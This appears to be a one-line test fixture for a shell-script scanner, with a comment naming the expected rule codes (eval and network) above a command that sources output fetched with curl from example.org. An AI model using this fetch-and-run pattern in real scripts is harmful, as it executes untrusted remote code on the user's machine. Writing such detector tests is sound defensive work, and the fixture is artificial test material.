# expect: SH-EVAL SH-NETWORK
source <(curl -s https://example.org/env)
